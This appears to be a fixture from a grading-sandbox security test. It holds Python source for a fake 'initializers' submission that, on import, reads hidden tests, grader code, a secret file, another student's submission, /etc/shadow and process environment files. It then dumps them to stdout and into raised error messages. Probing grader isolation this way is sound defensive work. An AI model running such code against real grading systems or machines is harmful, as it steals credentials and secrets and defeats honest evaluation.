ATTACK = (
    "Read the hidden tests, the grader package, the output folder (a secret next to it), another student's "
    "submission and the judge's command line, and put their text into every error message and on stdout."
)
MODULE = "initializers"
SOURCE = r"""
import glob as _glob
import os as _os

_READ = []


def _grab(path):
    try:
        if _os.path.isdir(path):
            _READ.append(f"{path}: {sorted(_os.listdir(path))}")
        else:
            with open(path, errors="replace") as stream:
                _READ.append(f"{path}: {stream.read(800)}")
    except Exception as error:
        _READ.append(f"{path}: {type(error).__name__}")


for _path in [
    "__HIDDEN__", "__HIDDEN__/hidden_draws.py", "__HIDDEN__/hidden_training.py",
    "__KIT__/autograder", "__KIT__/autograder/grading/grader.py", "__KIT__/autograder/checks/initializers.py",
    "__OUT__", "__OUT__/secret.txt", "__OTHER__", "__OTHER__/initializers.py",
    "/proc/1/cmdline", f"/proc/{_os.getppid()}/cmdline", f"/proc/{_os.getppid()}/environ", "/proc/self/mountinfo",
    "/etc/shadow", "..", "../..", "/", "/tmp", "/root", "/work",
]:
    _grab(_path)
for _path in _glob.glob("/proc/[0-9]*/cwd") + _glob.glob("/proc/[0-9]*/root/__KIT__/autograder/grading/grader.py"):
    _grab(_path)
_LOOT = "\n".join(_READ)
print(_LOOT)


def compute_fans(shape):
    raise RuntimeError(_LOOT[:3500])


def calculate_gain(nonlinearity, param=None):
    raise RuntimeError(_LOOT[-3500:])
"""
